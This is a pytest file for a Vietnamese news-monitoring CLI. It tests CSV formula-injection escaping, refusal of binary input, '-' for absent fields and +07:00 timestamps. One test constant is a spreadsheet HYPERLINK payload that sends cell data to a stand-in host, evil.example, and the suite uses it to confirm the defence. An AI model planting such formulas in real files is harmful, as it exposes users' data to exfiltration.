"""What the commands print is safe and plain (issue 15): CSV cells never run as formulas, binary input
is never echoed, absent fields are "-" (never Python's None), every time is in +07:00."""

from __future__ import annotations

import csv
import io
import json
import random
import struct
import zlib
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from click.testing import CliRunner, Result

from crawler.ingest import ingest_lines
from crawler.relevance.topics import load_topics
from newsmon.cli import cli
from newsmon.cli.present import csv_cell, fmt_time, job_dict, local_row, run_dict, run_line, text_time
from storage.archive import Archive
from tests.conftest import run_cli

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
BODY = "Thành phố nhận giải thưởng chính phủ số và chuyển đổi số xuất sắc năm nay."


def invoke(*args: str) -> Result:
    """The CLI in-process (a child process per case is slow); exceptions would show as result.exception."""
    result = CliRunner().invoke(cli, list(args))
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def _ingest(db_url: str, *records: dict[str, object]) -> None:
    archive = Archive(db_url)
    try:
        ingest_lines([json.dumps(r, ensure_ascii=False) for r in records], archive, load_topics())
    finally:
        archive.close()


# ---- CSV formula injection -----------------------------------------------------------------------
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_kept() -> None:
    assert csv_cell("Hà Nội = thủ đô") == "Hà Nội = thủ đô"
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell(["=x"]) == '["=x"]'


def test_export_and_search_csv_defuse_a_stored_formula_and_json_keeps_it(db_url: str) -> None:
    _ingest(
        db_url,
        {"url": "https://example.vn/f.html", "title": FORMULA, "text": BODY, "section": "@cmd", "authors": ["-x"]},
    )
    exported = run_cli("export", "--format", "csv", "--all", db=db_url)
    searched = run_cli("search", "--all", "--format", "csv", db=db_url)
    for result in (exported, searched):
        assert result.returncode == 0, result.stderr
        (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
        assert row["title"] == "'" + FORMULA
    assert row["url"] == "https://example.vn/f.html"
    (full,) = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert full["section"] == "'@cmd" and full["authors"] == '["-x"]'
    as_json = invoke("--db", db_url, "export", "--all")
    assert json.loads(as_json.stdout)["title"] == FORMULA  # JSON is data, not a spreadsheet: kept as stored
    assert json.loads(invoke("--db", db_url, "search", "--all", "--format", "json").stdout)[0]["title"] == FORMULA


# ---- extract and clean refuse what is not a text page --------------------------------------------
def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 20)) + chunk(b"IEND", b"")
    )


def _random_without_nul() -> bytes:
    rng = random.Random(15)
    return bytes(rng.randrange(1, 256) for _ in range(4000))


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (_png(), "is binary data, not a text page"),
        (b"<html><body>\x00\x00\x00</body></html>", "is binary data, not a text page"),
        (_random_without_nul(), "is binary data, not a text page"),
        (b"", "is empty"),
        (b" \n\t\n", "is empty"),
    ],
    ids=["png", "nul-bytes", "random-bytes", "empty", "blank"],
)
@pytest.mark.parametrize("command", ["extract", "clean"])
def test_extract_and_clean_refuse_a_file_that_is_not_text(
    tmp_path: Path, command: str, content: bytes, needle: str
) -> None:
    path = tmp_path / "page.html"
    path.write_bytes(content)
    result = invoke(command, str(path), "--url", "https://dantri.com.vn/a-1.htm")
    assert result.exit_code == 2
    assert result.stdout == ""  # never raw bytes on the terminal
    assert result.stderr == f"newsmon: error: {path} {needle}\n"


@pytest.mark.parametrize("command", ["extract", "clean"])
def test_extract_and_clean_on_a_missing_file_or_a_directory_exit_2(tmp_path: Path, command: str) -> None:
    for target, reason in [(tmp_path / "missing.html", "No such file or directory"), (tmp_path, "Is a directory")]:
        result = invoke(command, str(target), "--url", "https://dantri.com.vn/a-1.htm")
        assert result.exit_code == 2 and result.stdout == ""
        assert result.stderr == f"newsmon: error: cannot read {target}: {reason}\n"


def test_text_pages_in_utf16_or_with_a_bom_are_still_read(tmp_path: Path) -> None:
    text = "Thành phố nhận giải thưởng\n\n" + BODY + "\n"
    for name, data in [("bom.txt", b"\xef\xbb\xbf" + text.encode()), ("u16.txt", text.encode("utf-16"))]:
        (tmp_path / name).write_bytes(data)
        result = invoke("clean", str(tmp_path / name), "--json")
        assert result.exit_code == 0, result.stderr
        assert json.loads(result.stdout)["title"] == "Thành phố nhận giải thưởng"


# ---- absent fields and times ---------------------------------------------------------------------
def test_show_never_prints_none(db_url: str) -> None:
    _ingest(db_url, {"url": "https://example.vn/bare.html", "title": "Chính phủ số", "text": BODY})
    result = invoke("--db", db_url, "show", "https://example.vn/bare.html")
    assert result.exit_code == 0, result.stderr
    assert "None" not in result.stdout
    assert "outlet -  published -  language " in result.stdout and "authors -" in result.stdout
    table = invoke("--db", db_url, "search", "--all")
    assert "None" not in table.stdout and "https://example.vn/bare.html" in table.stdout


def test_every_time_in_article_output_is_local(db_url: str) -> None:
    _ingest(
        db_url,
        {
            "url": "https://example.vn/t.html",
            "title": "Chính phủ số",
            "text": BODY,
            "published": "2023-11-15T02:30:00Z",
        },
    )
    exported = json.loads(invoke("--db", db_url, "export", "--all").stdout)
    assert exported["published"] == "2023-11-15T09:30:00+07:00" and exported["first_seen"].endswith("+07:00")
    shown = json.loads(invoke("--db", db_url, "show", "https://example.vn/t.html", "--json").stdout)
    assert shown["first_seen"].endswith("+07:00")
    (row,) = list(csv.DictReader(io.StringIO(invoke("--db", db_url, "export", "--all", "--format", "csv").stdout)))
    assert row["first_seen"].endswith("+07:00") and row["published"] == "2023-11-15T09:30:00+07:00"
    assert "2023-11-15 09:30+07:00" in invoke("--db", db_url, "search", "--all").stdout
    assert "published 2023-11-15 09:30+07:00" in invoke("--db", db_url, "show", "https://example.vn/t.html").stdout
    runs = json.loads(invoke("--db", db_url, "runs", "--json").stdout)
    assert runs[0]["started_at"].endswith("+07:00") and runs[0]["finished_at"].endswith("+07:00")
    assert "+07:00" in invoke("--db", db_url, "runs").stdout


def test_present_helpers_give_one_local_form() -> None:
    utc = datetime(2026, 1, 2, 1, 2, 3, tzinfo=UTC)
    assert fmt_time(utc) == "2026-01-02 08:02:03+07:00" and fmt_time(None) == "-"
    assert text_time("2026-01-02T01:02:03+00:00") == "2026-01-02 08:02+07:00"
    assert text_time("2026-01-02") == "2026-01-02" and text_time(None) == "-"
    row = local_row({"published": "2026-01-02", "first_seen": "2026-01-02T01:02:03+00:00", "story_copies": []})
    assert row["published"] == "2026-01-02" and row["first_seen"] == "2026-01-02T08:02:03+07:00"

    job = SimpleNamespace(id="j1", cron="0 * * * *", outlets=[], groups=[], adaptive=False, next_run=utc)
    counts = dict.fromkeys(("pages_fetched", "new_articles", "duplicates", "offtopic", "errors"), 0)
    run = SimpleNamespace(
        id=1, trigger="manual", status="completed", outlets=[], started_at=utc, finished_at=utc, **counts
    )
    run.error_log, run.finish_reason = [], None
    assert job_dict(job)["next_run"] == "2026-01-02T08:02:03+07:00"  # type: ignore[arg-type]
    assert run_dict(run)["started_at"] == "2026-01-02T08:02:03+07:00"  # type: ignore[arg-type]
    assert "2026-01-02 08:02+07:00" in run_line(run)  # type: ignore[arg-type]
